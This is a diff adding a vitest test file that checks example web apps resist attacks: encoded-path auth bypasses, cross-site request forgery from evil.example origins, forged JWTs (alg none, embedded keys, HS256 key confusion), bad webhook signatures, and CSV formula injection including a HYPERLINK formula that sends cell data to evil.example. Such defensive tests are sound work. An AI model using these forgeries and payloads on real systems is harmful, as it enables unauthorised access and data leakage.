@@ -1,0 +1,121 @@
+import { generateKeyPairSync, sign, createHmac } from 'node:crypto';
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { expect, it, onTestFinished } from 'vitest';
+import { hasPackages } from '../packages.ts';
+import { send, serve } from './server.ts';
+
+it.skipIf(!hasPackages)('authentication.md guards a directory, however its path is written', async () => {
+  const { url } = await serve('authentication.md');
+  const status = async (path: string, method = 'GET', headers = {}): Promise<number> =>
+    (await send(`${url}${path}`, method, undefined, headers)).status;
+  for (const path of ['/office', '/office/', '/%6fffice', '/office?a', '/office/?a']) {
+    expect([path, await status(path)]).toEqual([path, 403]);
+    expect([path, await status(path, 'HEAD')]).toEqual([path, 403]);
+    // The app has no proxy that it trusts.
+    expect([path, await status(path, 'GET', { 'X-Forwarded-For': '192.0.2.1' })]).toEqual([path, 403]);
+  }
+  const bo = { Authorization: 'Bearer secret-of-bo' };
+  for (const path of ['/admin/sales', '/admin/sales/', '/%61dmin/sales', '/admin/s%61les'])
+    expect([path, await status(path), await status(path, 'GET', bo), await status(path, 'HEAD', bo)]).toEqual([path, 401, 403, 403]);
+  for (const key of ['', ' ', 'undefined', 'machin', 'machine2'])
+    expect([key, await status('/books', 'POST', { 'X-Key': key })]).toEqual([key, 401]);
+  for (const token of ['constructor', '__proto__', 'secret-of-ad', 'SECRET-OF-ADA'])
+    expect(await status('/me', 'GET', { Authorization: `Bearer ${token}` })).toBe(401);
+});
+
+it.skipIf(!hasPackages)('authentication.md does not start without its key', async () => {
+  await expect(serve('authentication.md', { env: { MACHINE_KEY: '' } })).rejects.toThrow('Set MACHINE_KEY.');
+});
+
+it.skipIf(!hasPackages)('security.md refuses the requests of other sites, with old browsers too', async () => {
+  const { url } = await serve('security.md');
+  const post = async (headers: Record<string, string>, method = 'POST'): Promise<number> =>
+    (await send(`${url}/books`, method, { title: 'Dust' }, headers)).status;
+  const own = new URL(url).origin;
+  expect(await post({})).toBe(201);
+  expect(await post({ Origin: own })).toBe(201);
+  expect(await post({ Origin: own, 'Sec-Fetch-Site': 'same-origin' })).toBe(201);
+  expect(await post({ Origin: 'https://web.example.com', 'Sec-Fetch-Site': 'same-site' })).toBe(201);
+  for (const site of ['cross-site', 'same-site', 'SAME-ORIGIN', 'none, same-origin'])
+    for (const origin of ['https://evil.example', 'null', own, `${own}.evil.example`])
+      expect([site, origin, await post({ Origin: origin, 'Sec-Fetch-Site': site })]).toEqual([site, origin, 403]);
+  for (const origin of ['https://evil.example', 'null', `${own}.evil.example`, `https://${own}@evil.example`, 'http://localhost:1'])
+    expect([origin, await post({ Origin: origin })]).toEqual([origin, 403]);
+  for (const method of ['PUT', 'PATCH', 'DELETE', 'PROPFIND'])
+    expect([method, await post({ 'Sec-Fetch-Site': 'cross-site' }, method)]).toEqual([method, 403]);
+});
+
+it.skipIf(!hasPackages)('security.md takes an empty list of front ends as none', async () => {
+  const { url } = await serve('security.md', { env: { ALLOWED_ORIGIN: '' } });
+  expect((await send(`${url}/books`, 'POST', { title: 'Dust' }, { 'Sec-Fetch-Site': 'cross-site' })).status).toBe(403);
+});
+
+it.skipIf(!hasPackages)('identity-providers.md takes no token without a user or an end, nor one that others have signed', async () => {
+  const [own, other] = [generateKeyPairSync('rsa', { modulusLength: 2048 }), generateKeyPairSync('rsa', { modulusLength: 2048 })];
+  const keys = { keys: [{ ...own.publicKey.export({ format: 'jwk' }), kid: 'one', alg: 'RS256' }] };
+  const provider = createServer((_req, res) => void res.end(JSON.stringify(keys))).listen(0);
+  onTestFinished(() => void provider.close());
+  await once(provider, 'listening');
+  const JWKS_URL = `http://localhost:${(provider.address() as AddressInfo).port}/`;
+  const { url } = await serve('identity-providers.md', { env: { JWKS_URL } });
+
+  const right = { sub: 'ada', iss: 'https://login.example/', aud: 'https://api.example', exp: 4_102_444_800 };
+  const textOf = (claims: object, header: object): string =>
+    [header, claims].map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.');
+  const signed = (claims: object, key = own.privateKey, header: object = { alg: 'RS256', kid: 'one' }): string => {
+    const text = textOf(claims, header);
+    return `${text}.${sign('sha256', Buffer.from(text), key).toString('base64url')}`;
+  };
+  const status = async (token: string): Promise<number> =>
+    (await send(`${url}/me`, 'GET', undefined, { Authorization: `Bearer ${token}` })).status;
+  expect(await status(signed(right))).toBe(200);
+  for (const missing of ['sub', 'exp', 'iss', 'aud'])
+    expect([missing, await status(signed({ ...right, [missing]: undefined }))]).toEqual([missing, 401]);
+  expect(await status(signed(right, other.privateKey))).toBe(401);
+  const { publicKey } = other;
+  const jwk = publicKey.export({ format: 'jwk' });
+  for (const header of [{ alg: 'RS256', jwk }, { alg: 'RS256', kid: 'two' }, { alg: 'RS256', kid: 'one', jku: JWKS_URL }])
+    expect(await status(signed(right, other.privateKey, header))).toBe(401);
+  expect(await status(`${textOf(right, { alg: 'none' })}.`)).toBe(401);
+  // The public key as the secret of an HMAC.
+  const text = textOf(right, { alg: 'HS256', kid: 'one' });
+  const pem = own.publicKey.export({ type: 'spki', format: 'pem' });
+  expect(await status(`${text}.${createHmac('sha256', pem).update(text).digest('base64url')}`)).toBe(401);
+});
+
+it.skipIf(!hasPackages)('webhooks.md takes no request that the sender has not signed, and each event once', async () => {
+  const signature = { 'X-Signature': createHmac('sha256', 'secret-of-the-sender').update('{"id":8}').digest('hex') };
+  // Its files are of several examples.
+  const invoice = 'app/webhooks/invoice.paid@post.ts';
+  const change = (files: Record<string, string>): Record<string, string> =>
+    Object.fromEntries(Object.entries(files).filter(([file]) => !file.startsWith('app/') || file === invoice));
+  const { url, output } = await serve('webhooks.md', { change });
+  const post = async (body: object, headers: Record<string, string>): Promise<number> =>
+    (await send(`${url}/webhooks/invoice.paid`, 'POST', body, headers)).status;
+  const event = { id: 8 };
+  expect([await post(event, signature), await post(event, signature)]).toEqual([204, 204]);
+  expect(output().match(/Invoice 8 was paid/g)).toHaveLength(1);
+  const { 'X-Signature': right } = signature;
+  for (const wrong of [right.slice(0, -2), `${right}00`, right.slice(0, 2), 'zz', `zz${right.slice(2)}`])
+    expect([wrong, await post(event, { 'X-Signature': wrong })]).toEqual([wrong, 401]);
+  expect(await post({ id: 9 }, signature)).toBe(401);
+  expect(await post(event, {})).toBe(400);
+});
+
+it.skipIf(!hasPackages)('exports.md writes no formula of a user into a cell', async () => {
+  const titles = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\r=1', '＝1', 'a=1', "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"];
+  // The page tells readers to replace this file.
+  const change = (files: Record<string, string>): Record<string, string> => ({
+    ...files,
+    'app/books.ts': `export async function* readBooks() { for (const title of ${JSON.stringify(titles)}) yield { id: -1, title }; }`,
+  });
+  const { url } = await serve('exports.md', { change });
+  const response = await fetch(`${url}/books.csv`);
+  expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="books.csv"');
+  const [, ...lines] = (await response.text()).trimEnd().split('\n');
+  expect(lines).toHaveLength(titles.length);
+  const cells = lines.map((line) => /^-1,"?(.*)/.exec(line)![1]!);
+  expect(cells.filter((cell) => !cell.startsWith("'"))).toEqual(['a=1']);
+});
